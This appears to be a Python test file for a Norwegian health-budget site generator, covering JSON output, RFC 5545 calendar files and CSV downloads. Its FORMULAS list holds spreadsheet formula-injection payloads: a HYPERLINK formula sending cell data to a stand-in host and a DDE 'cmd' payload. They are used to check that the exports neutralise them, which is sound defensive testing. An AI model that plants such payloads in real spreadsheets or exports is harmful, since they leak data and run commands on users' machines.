"""Data downloads: CSV cells are safe in a spreadsheet (the tables themselves:
tests/fast/test_downloads.py), the JSON is the
contract, and the deadlines calendar is valid RFC 5545 that round-trips."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.model import Assignment, BudgetRow, Chapter, Document, Post, Vedtak
from generator.render.formats.serialise import CalendarEvent, extraction_json, ics_calendar, ics_escape, ics_fold

R22, S23, F24 = "Regnskap 2022", "Saldert budsjett 2023", "Forslag 2024"

CHAPTERS = [
    Chapter(
        kap=740, title="Helsedirektoratet", type="utgift", programme_category="10.40", line=812,
        posts=(
            Post("01", "Driftsutgifter", ((R22, 1_234_567), (S23, 1_301_250), (F24, 1_412_000)), 815),
            Post("21", "Spesielle driftsutgifter, kan overføres", ((R22, 234_567), (S23, None), (F24, 312_000)), 816),
            Post("70", "Tilskudd", ((S23, 47_800), (F24, 52_100)), 817),
        ),
    ),
    Chapter(
        kap=3740, title="Helsedirektoratet", type="inntekt", programme_category=None, line=900,
        posts=(Post("02", "Diverse inntekter", ((R22, 40_123), (F24, 38_000)), 903),),
    ),
]

ROWS = [
    ("tildelingsbrev-2025.txt", BudgetRow(740, "01", "Driftsutgifter", (("Tildeling 2025", 1_498_300),), "1000 NOK", "utgift", 410)),
    ("tildelingsbrev-2025.txt", BudgetRow(740, "21", "Spesielle driftsutgifter, kan overføres, «x», \"y\"",
                                          (("Tildeling 2025", 330_500),), "1000 NOK", "utgift", 411,
                                          comment="Inkl. 12 mill. kr til\nhelseberedskap; se punkt 3.2")),
    ("tildelingsbrev-2022.txt", BudgetRow(740, "01", "Driftsutgifter", (("Bevilgning 2022", 1_250_000), ("Tillegg 1", -2_000)), "1000 NOK", "utgift", 388)),
    ("tildelingsbrev-2022.txt", BudgetRow(3740, "02", "Diverse inntekter", (("Bevilgning 2022", None),), "1000 NOK", "inntekt", 395)),
]

TB = Assignment(
    id="TB2025-12", printed_id="TB2025-12", title="Nasjonal plan for helseberedskap, oppfølging",
    departments=("HOD-SPES", "HOD-FHA"), deadline="2025-12-31", deadline_text="31. desember 2025",
    section="3.2", letter="hovedbrev", status="new", line=1204, end_line=1219,
)
TB_OLD = Assignment(
    id="TB2023-30", printed_id=None, title="Digital samhandling", departments=(), deadline=None,
    deadline_text=None, section="3.4", letter="tillegg-1", status="carried_over", line=1300, end_line=1302,
)

VEDTAK = [
    ("prop-1s-2023-2024.txt", Vedtak("2022–2023", "831", "2023-06-13", "Nasjonal helse- og samhandlingsplan", True, 5501)),
    ("prop-1s-2023-2024.txt", Vedtak("2021–2022", "12", None, "Fritt behandlingsvalg, avvikling", False, 5530)),
    ("prop-1s-2023-2024.txt", Vedtak("2022–2023", "1", None, "Ukjent status", None, 5560)),
]


def read(text: str) -> list[dict[str, str]]:
    assert text.endswith("\n") and "\r\n" not in text.replace('"\r\n', "")
    return list(csv.DictReader(io.StringIO(text)))


def test_extraction_json_is_the_contract():
    doc = Document(source="tildelingsbrev-2025.txt", path="source/tildelingsbrev-2025.txt", kind="tildelingsbrev",
                   budget_year=2025, title="Tildelingsbrev 2025 – Helsedirektoratet", assignments=(TB,),
                   budget_rows=tuple(r for _, r in ROWS[:2]))
    text = extraction_json(doc)
    assert text.endswith("}\n") and "Helsedirektoratet" in text  # not \u-escaped
    data = json.loads(text)
    # The contract's keys in the contract's order (docs/contract.md), and the values as given.
    assert list(data)[:7] == ["source", "kind", "budget_year", "title", "date", "reference", "sections"]
    assert {"assignments", "budget_rows", "vedtak_refs", "chapters", "vedtak"} <= set(data)
    assert data["source"] == "tildelingsbrev-2025.txt" and data["budget_year"] == 2025
    a = data["assignments"][0]
    assert (a["id"], a["status"], a["letter"]) == (TB.id, TB.status, TB.letter)
    assert list(a)[:4] == ["id", "printed_id", "aliases", "title"]
    assert [r["post"] for r in data["budget_rows"]] == [r.post for _, r in ROWS[:2]]
    assert extraction_json(doc) == text


# --- iCalendar ------------------------------------------------------------------------

def unfold(text: str) -> list[str]:
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "") and "\r" not in text.replace("\r\n", "")
    return text.replace("\r\n ", "").replace("\r\n\t", "").split("\r\n")[:-1]


def unescape(value: str) -> str:
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)


def parse_ics(text: str) -> list[dict[str, tuple[str, str]]]:
    """A small RFC 5545 reader: components as {NAME: (params, raw value)}."""
    stack: list[tuple[str, dict]] = []
    done: list[tuple[str, dict]] = []
    for line in unfold(text):
        m = re.fullmatch(r"([A-Z-]+)((?:;[^:;]+)*):(.*)", line, re.S)
        assert m, f"bad content line {line!r}"
        name, params, value = m.groups()
        if name == "BEGIN":
            stack.append((value, {}))
        elif name == "END":
            comp, props = stack.pop()
            assert comp == value
            done.append((comp, props))
        else:
            assert stack, line
            stack[-1][1][name] = (params, value)
    assert not stack
    return [dict(props, _kind=("", kind)) for kind, props in done]


EVENTS = [
    CalendarEvent("tb2025-12@helsebudsjett", "2025-12-31", "Frist: TB2025-12 Nasjonal plan for helseberedskap, oppfølging",
                  "Oppdrag TB2025-12; frist 31. desember 2025.\nEier: HOD-SPES, HOD-FHA. Sti: C:\\tmp",
                  "https://owner.github.io/helsebudsjett/2025/oppdrag/tb2025-12/"),
    CalendarEvent("rapport-2025-03-01@helsebudsjett", "2025-03-01", "Årsrapport 2024 – Helsedirektoratet",
                  "", "https://owner.github.io/helsebudsjett/2025/frister/"),
]


def test_ics_is_valid_and_complete():
    text = ics_calendar(EVENTS, "Frister 2025, Helsedirektoratet")
    assert text.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:")
    assert text.endswith("END:VCALENDAR\r\n")
    for raw in text.split("\r\n"):
        assert len(raw.encode("utf-8")) <= 75
    comps = parse_ics(text)
    events = [c for c in comps if c["_kind"][1] == "VEVENT"]
    cal = [c for c in comps if c["_kind"][1] == "VCALENDAR"][0]
    assert cal["CALSCALE"][1] == "GREGORIAN" and cal["VERSION"][1] == "2.0"
    assert unescape(cal["X-WR-CALNAME"][1]) == "Frister 2025, Helsedirektoratet"
    assert len(events) == 2 == text.count("BEGIN:VEVENT")
    # sorted by date
    first, tb = events
    assert first["UID"][1] == "rapport-2025-03-01@helsebudsjett" and "DESCRIPTION" not in first
    assert tb["DTSTART"] == (";VALUE=DATE", "20251231")
    assert tb["DTEND"] == (";VALUE=DATE", "20260101")
    assert tb["DTSTAMP"][1] == "20251231T000000Z"
    assert unescape(tb["SUMMARY"][1]) == EVENTS[0].summary
    assert unescape(tb["DESCRIPTION"][1]) == EVENTS[0].description
    assert tb["URL"][1] == EVENTS[0].url
    for required in ("UID", "DTSTAMP", "DTSTART", "SUMMARY"):
        assert all(required in e for e in events)
    assert "\\;" in text and "\\," in text and "\\n" in text and "\\\\" in text
    assert ics_calendar(list(reversed(EVENTS)), "Frister 2025, Helsedirektoratet") == text  # deterministic


def test_ics_rejects_bad_input():
    with pytest.raises(ValueError):
        ics_calendar([EVENTS[0], EVENTS[0]], "x")  # duplicate UID
    with pytest.raises(ValueError):
        ics_calendar([CalendarEvent("a@b", "2025-02-30", "s", "", "")], "x")
    with pytest.raises(ValueError):
        ics_calendar([CalendarEvent("a@b", "9999-12-31", "s", "", "")], "x")
    with pytest.raises(ValueError):
        ics_calendar([CalendarEvent("a@b", "2025-02-03", "s", "", "/2025/frister/")], "x")  # relative URL
    with pytest.raises(ValueError):
        ics_calendar([CalendarEvent("a@b", "2025-02-03", "s", "", "https://x.org/a b")], "x")


def test_fold_does_not_split_multibyte_characters():
    line = "SUMMARY:" + "æøå€😀" * 40
    folded = ics_fold(line)
    parts = folded.split("\r\n")
    assert len(parts) > 1
    for p in parts:
        raw = p.encode("utf-8")
        assert len(raw) <= 75
        raw.decode("utf-8")  # each physical line is valid UTF-8 on its own
    assert all(p.startswith(" ") for p in parts[1:])
    assert folded.replace("\r\n ", "") == line


def test_short_line_is_not_folded():
    assert ics_fold("SUMMARY:kort") == "SUMMARY:kort"
    assert ics_fold("X" * 75) == "X" * 75
    assert ics_fold("X" * 76) == "X" * 75 + "\r\n X"


def normalise(text: str) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(" " if (ord(c) < 32 and c not in "\n\t") or ord(c) == 127 else c for c in text)


@settings(max_examples=150, deadline=None)
@given(
    summary=st.text(min_size=1, max_size=200),
    description=st.text(max_size=400),
    day=st.dates(max_value=date(9999, 12, 30)),
)
def test_ics_text_round_trip(summary, description, day):
    event = CalendarEvent("x-1@helsebudsjett", day.isoformat(), summary, description, "https://h.example/a?b=1,2;c")
    text = ics_calendar([event], "Frister; test, 2025")
    for raw in text.split("\r\n"):
        assert len(raw.encode("utf-8")) <= 75
        raw.encode("utf-8").decode("utf-8")
    (ev,) = [c for c in parse_ics(text) if c["_kind"][1] == "VEVENT"]
    assert unescape(ev["SUMMARY"][1]) == normalise(summary)
    if description:
        assert unescape(ev["DESCRIPTION"][1]) == normalise(description)
    assert ev["DTSTART"][1] == f"{day.year:04d}{day.month:02d}{day.day:02d}"
    assert ev["URL"][1] == "https://h.example/a?b=1,2;c"


@given(st.text(max_size=300))
def test_escape_leaves_no_bare_specials(text):
    escaped = ics_escape(text)
    assert "\n" not in escaped and "\r" not in escaped
    assert unescape(escaped) == normalise(text)
    # every ; and , is preceded by an odd run of backslashes
    for m in re.finditer(r"(\\*)[;,]", escaped):
        assert len(m.group(1)) % 2 == 1


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB=1", "\rCR=1"]


def _download_tables():
    """Every kind of CSV download, built from model objects whose text is FORMULAS."""
    from dataclasses import replace

    from generator.link.graph import ChapterInfo, YearModel
    from generator.render.downloads import assignments_table, letter_allocations, proposition_posts, vedtak_table

    doc = Document(source="x.txt", path="source/x.txt", kind="prop1s", budget_year=2024, title="X")
    chapter = replace(CHAPTERS[0], title=FORMULAS[0], posts=tuple(
        replace(CHAPTERS[0].posts[0], title=f, amounts=((f, -5),)) for f in FORMULAS))
    rows = [(doc, replace(ROWS[2][1], title=f, comment=f)) for f in FORMULAS]
    info = ChapterInfo(740, FORMULAS[0], "utgift", None, (doc, chapter), rows)
    model = YearModel(2024, [doc],
                      assignments={f"a{i}": (doc, replace(TB, id=f"TB2024-{i}", title=f, deadline_text=f))
                                   for i, f in enumerate(FORMULAS)},
                      vedtak={f"v{i}": (doc, replace(VEDTAK[0][1], title=f)) for i, f in enumerate(FORMULAS)})
    return {"poster": proposition_posts([info], 2024), "tildelinger": letter_allocations([info], 2024),
            "oppdrag": assignments_table(model), "vedtak": vedtak_table(model)}


def test_csv_text_that_looks_like_a_formula_is_neutralised_in_every_csv():
    """OWASP: a text cell starting with = + - @ tab or CR gets a leading apostrophe,
    in every CSV (standard and Excel) and in headers too; amounts stay numbers."""
    from generator.render.downloads import to_csv

    for name, table in _download_tables().items():
        for excel in (False, True):
            text = to_csv(table, excel=excel).lstrip("\ufeff")
            cells = [c for r in csv.reader(io.StringIO(text), delimiter=";" if excel else ",") for c in r]
            formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                        or (c.startswith("-") and not c.lstrip("-").isdigit())]
            assert formulas == [], (name, excel, formulas)
            for f in FORMULAS:
                assert "'" + f.replace("\r", "\n") in cells, (name, f)  # still readable
    letter = read(to_csv(_download_tables()["tildelinger"]))
    assert [r["Tildelt Helsedirektoratet (1 000 kr)"] for r in letter][0] == "-2000"  # a number, not text


def test_csv_plain_negative_numbers_stay_numbers():
    from generator.render.formats.serialise import csv_cell

    assert csv_cell(-1234) == -1234
    assert csv_cell("-1234") == "-1234" and csv_cell("+12,5") == "+12,5"
    assert csv_cell("-1234 kr") == "'-1234 kr" and csv_cell("=1") == "'=1"
    assert csv_cell("Helse – og omsorg") == "Helse – og omsorg" and csv_cell(None) == ""
